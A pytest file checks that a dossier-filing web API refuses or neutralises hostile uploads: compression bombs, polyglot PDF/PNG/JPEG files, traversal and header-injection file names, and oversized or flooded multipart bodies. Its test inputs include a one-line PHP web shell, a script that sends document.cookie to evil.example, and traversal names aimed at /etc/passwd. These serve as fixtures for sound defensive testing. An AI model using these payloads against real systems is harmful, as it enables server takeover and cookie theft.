"""Hostile uploads to a dossier's attachment slot: bombs, polyglots, lies, floods, names.

What protects the server is decided in ``backend.storage``: the type comes from the bytes,
the whole file must hold together as that type (nothing before the signature, nothing after
the end marker, no ZIP directory in the tail a ZIP reader searches), images are measured from
their headers and never decoded, and PDF streams are never inflated. A refused file leaves no
blob and no row behind.
"""

from __future__ import annotations

import hashlib
import io
import zlib

import pytest

from backend.errors import PROBLEM_CONTENT_TYPE
from tests.dossiers import conftest as dossier_fixtures
from tests.dossiers.test_attachments import stored
from tests.storage.samples import HTML, jpeg, pdf, pdf_with_stream, png, png_chunk, zip_archive

# The ward, its catalog and citizen A filing through the API, at Monday 9:00 (shared fixtures).
_catalog, clock, filing = dossier_fixtures._catalog, dossier_fixtures.clock, dossier_fixtures.filing

INFLATED = 256 * 1024 * 1024  # what the bombs below would become if anything inflated them


def _bomb() -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b"\x00" * (1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(INFLATED // len(chunk))]
    return b"".join(parts) + compressor.flush()


BOMB = _bomb()  # about 250 KB of deflate that inflates to 256 MiB


class _CountingInflater:
    """zlib.decompressobj as the code under test sees it, counting what comes out."""

    def __init__(self, real, counter):
        self._real, self._counter = real, counter

    def decompress(self, data, max_length=0):
        out = self._real.decompress(data, max_length)
        self._counter["bytes"] += len(out)
        return out

    def __getattr__(self, name):
        return getattr(self._real, name)


@pytest.fixture
def inflated(monkeypatch):
    """How many bytes anything in the process inflates while the test runs."""
    counter = {"bytes": 0}
    real_decompressobj, real_decompress = zlib.decompressobj, zlib.decompress

    def decompressobj(*args, **kwargs):
        return _CountingInflater(real_decompressobj(*args, **kwargs), counter)

    def decompress(data, *args, **kwargs):
        out = real_decompress(data, *args, **kwargs)
        counter["bytes"] += len(out)
        return out

    monkeypatch.setattr(zlib, "decompressobj", decompressobj)
    monkeypatch.setattr(zlib, "decompress", decompress)
    return counter


def refused(response, status: int, problem: str) -> None:
    assert response.status_code == status, response.get_data(as_text=True)[:300]
    assert response.mimetype == PROBLEM_CONTENT_TYPE
    assert response.get_json()["type"].endswith(problem)


def test_a_pdf_carrying_a_deflate_bomb_is_kept_as_is_and_never_inflated(
    filing, client, app, inflated
):
    """A valid PDF may compress its pages; we keep its bytes and never open its streams."""
    bomb_pdf = pdf_with_stream(BOMB)
    assert len(bomb_pdf) < 400_000
    dossier = filing.draft().get_json()
    attached = filing.attach(dossier["id"], content=bomb_pdf, name="to-khai.pdf")
    assert attached.status_code == 201, attached.get_json()
    document = attached.get_json()["document"]
    assert document["file_type"] == "pdf" and document["size"] == len(bomb_pdf)
    assert document["sha256"] == hashlib.sha256(bomb_pdf).hexdigest()
    download = client.get(
        f"/api/v1/dossiers/{dossier['id']}/attachments/giay_chung_sinh/content",
        headers=filing.headers,
    )
    assert download.status_code == 200 and download.data == bomb_pdf
    assert download.headers["Content-Type"] == "application/pdf"
    assert "Content-Encoding" not in download.headers
    assert inflated["bytes"] == 0


def test_a_png_with_a_compressed_text_bomb_is_bounded(filing, app, inflated):
    """Pillow reads text chunks before the image data; its own cap bounds what it inflates."""
    image = png()
    first_data = image.index(b"IDAT") - 4
    bomb_png = (
        image[:first_data] + png_chunk(b"zTXt", b"Comment\x00\x00" + BOMB) + image[first_data:]
    )
    dossier = filing.draft().get_json()
    answer = filing.attach(dossier["id"], content=bomb_png, name="anh.png")
    assert answer.status_code in (201, 422), answer.get_json()
    assert inflated["bytes"] <= 8 * 1024 * 1024


def _zip_inside_pdf() -> bytes:
    """A PDF whose last object holds a ZIP: readers of either format open it."""
    return pdf_with_stream(zip_archive(), filters=b"/ASCIIHexDecode")


def _jpeg_with_comment(payload: bytes) -> bytes:
    data = jpeg()
    segment = b"\xff\xfe" + (len(payload) + 2).to_bytes(2, "big") + payload
    return data[:2] + segment + data[2:]


PHP = b"<?php system($_GET['c']); ?>"


@pytest.mark.parametrize(
    "content, name, problem",
    [
        (pdf() + zip_archive(), "to-khai.pdf", "file-content-mismatch"),
        (_zip_inside_pdf(), "to-khai.pdf", "file-content-mismatch"),
        (png() + HTML, "anh.png", "file-content-mismatch"),
        (
            png() + b"<script>fetch('//evil.example/'+document.cookie)</script>",
            "anh.png",
            "file-content-mismatch",
        ),
        (jpeg() + PHP, "anh.jpg", "file-content-mismatch"),
        (jpeg() + zip_archive(), "anh.jpg", "file-content-mismatch"),
        (b"%PDF-1.7\n" + HTML, "to-khai.pdf", "file-content-mismatch"),
        (HTML + pdf(), "to-khai.pdf", "file-type-not-allowed"),
        (zip_archive(), "to-khai.pdf", "file-type-not-allowed"),
        (PHP, "anh.jpg", "file-type-not-allowed"),
        (b"", "anh.png", "empty-file"),
    ],
    ids=[
        "pdf-then-zip",
        "zip-inside-pdf",
        "png-then-html",
        "png-then-script",
        "jpeg-then-php",
        "jpeg-then-zip",
        "pdf-header-on-html",
        "html-then-pdf",
        "zip-named-pdf",
        "php-named-jpg",
        "empty",
    ],
)
def test_polyglots_and_lies_are_refused_and_leave_nothing(filing, app, content, name, problem):
    dossier = filing.draft().get_json()
    before = stored(app)
    refused(filing.attach(dossier["id"], content=content, name=name), 422, problem)
    assert stored(app) == before


def test_a_php_comment_inside_a_genuine_jpeg_stays_an_inert_image(filing, client):
    """A comment segment is part of a valid JPEG; what matters is how it is named and served."""
    dossier = filing.draft().get_json()
    attached = filing.attach(dossier["id"], content=_jpeg_with_comment(PHP), name="shell.php")
    assert attached.status_code == 201, attached.get_json()
    assert attached.get_json()["document"]["file_name"] == "shell.jpg"
    download = client.get(
        f"/api/v1/dossiers/{dossier['id']}/attachments/giay_chung_sinh/content",
        headers=filing.headers,
    )
    assert download.headers["Content-Type"] == "image/jpeg"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert "shell.jpg" in download.headers["Content-Disposition"]


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd.png",
        "..\\..\\boot.png",
        "anh\x00.png",
        "anh.png\x00.php",
        "hoa-don\u202egnp.exe",
        "anh\u200b.png",
        "\u2025\uff0fetc\uff0fpasswd.png",
        "C:anh.png",
        "anh\r\nX-Evil: 1.png",
        "a" * 300 + ".png",
    ],
    ids=[
        "traversal",
        "backslashes",
        "nul",
        "nul-then-php",
        "rtl-override",
        "zero-width",
        "look-alikes",
        "drive",
        "header-injection",
        "too-long",
    ],
)
def test_a_hostile_file_name_is_refused_and_leaves_nothing(filing, app, name):
    dossier = filing.draft().get_json()
    before = stored(app)
    answer = filing.attach(dossier["id"], content=png(), name=name)
    if "\r" in name:  # the line break ends the part's header: no file arrives at all
        refused(answer, 422, "validation-failed")
        assert "file" in answer.get_json()["errors"]
    else:
        refused(answer, 422, "bad-file-name")
    assert stored(app) == before


def test_an_odd_but_honest_name_is_kept_and_quoted_safely(filing, client):
    dossier = filing.draft().get_json()
    name = 'Giấy chứng sinh "bé An"; 100%.PNG'
    attached = filing.attach(dossier["id"], content=png(), name=name)
    assert attached.status_code == 201, attached.get_json()
    download = client.get(
        f"/api/v1/dossiers/{dossier['id']}/attachments/giay_chung_sinh/content",
        headers=filing.headers,
    )
    disposition = download.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.count('"') == 2  # the ASCII fallback's own quotes only
    assert "filename*=UTF-8''" in disposition


def _multipart(parts: list[tuple[str, str | None, bytes]], boundary: str = "b0undary") -> bytes:
    body = bytearray()
    for field, filename, content in parts:
        body += f"--{boundary}\r\n".encode()
        disposition = f'form-data; name="{field}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        body += f"Content-Disposition: {disposition}\r\n".encode()
        body += b"Content-Type: application/octet-stream\r\n\r\n" + content + b"\r\n"
    return bytes(body + f"--{boundary}--\r\n".encode())


def _post_raw(client, filing, dossier_id, body: bytes, **kwargs):
    return client.post(
        f"/api/v1/dossiers/{dossier_id}/attachments/giay_chung_sinh",
        data=body,
        content_type="multipart/form-data; boundary=b0undary",
        headers=filing.headers,
        **kwargs,
    )


def test_a_body_over_the_limit_is_413_and_stores_nothing(filing, client, app):
    limit = app.config["MAX_CONTENT_LENGTH"]
    dossier = filing.draft().get_json()
    before = stored(app)
    huge = png() + b"\x00" * (limit + 1024)
    body = _multipart([("file", "anh.png", huge)])
    refused(_post_raw(client, filing, dossier["id"], body), 413, "payload-too-large")
    assert stored(app) == before


def test_a_chunked_body_over_the_limit_is_413_and_stores_nothing(filing, client, app):
    """No Content-Length to trust: the limit must hold while the body is read."""
    limit = app.config["MAX_CONTENT_LENGTH"]
    dossier = filing.draft().get_json()
    before = stored(app)
    body = _multipart([("file", "anh.png", png() + b"\x00" * (limit + 1024))])
    answer = client.post(
        f"/api/v1/dossiers/{dossier['id']}/attachments/giay_chung_sinh",
        input_stream=io.BytesIO(body),
        content_type="multipart/form-data; boundary=b0undary",
        headers={**filing.headers, "Transfer-Encoding": "chunked"},
        # What gunicorn says of a chunked body it de-chunks for the app.
        environ_overrides={"wsgi.input_terminated": True},
    )
    refused(answer, 413, "payload-too-large")
    assert stored(app) == before


@pytest.mark.parametrize("cut", [10, 60, 150])
def test_a_content_length_that_cuts_the_body_short_stores_nothing(filing, client, app, cut):
    dossier = filing.draft().get_json()
    before = stored(app)
    body = _multipart([("file", "anh.png", png())])
    answer = client.post(
        f"/api/v1/dossiers/{dossier['id']}/attachments/giay_chung_sinh",
        input_stream=io.BytesIO(body),
        content_type="multipart/form-data; boundary=b0undary",
        headers=filing.headers,
        environ_overrides={"CONTENT_LENGTH": str(len(body) - cut)},
    )
    assert 400 <= answer.status_code < 500, answer.status_code
    assert answer.mimetype == PROBLEM_CONTENT_TYPE
    assert stored(app) == before


def test_thousands_of_parts_are_refused_and_store_nothing(filing, client, app):
    dossier = filing.draft().get_json()
    before = stored(app)
    parts = [(f"field{n}", None, b"x") for n in range(5000)] + [("file", "anh.png", png())]
    answer = _post_raw(client, filing, dossier["id"], _multipart(parts))
    assert answer.status_code == 413, answer.status_code
    assert answer.mimetype == PROBLEM_CONTENT_TYPE
    assert stored(app) == before


def test_many_files_in_one_request_keep_one(filing, client, app):
    """Only the ``file`` part is read; a second one cannot slip in beside it."""
    dossier = filing.draft().get_json()
    body = _multipart(
        [("file", "anh.png", png()), ("file", "khac.pdf", pdf())]
        + [(f"other{n}", f"x{n}.png", png()) for n in range(20)]
    )
    answer = _post_raw(client, filing, dossier["id"], body)
    assert answer.status_code in (201, 422), answer.get_json()
    count, _ = stored(app)
    assert count <= 1
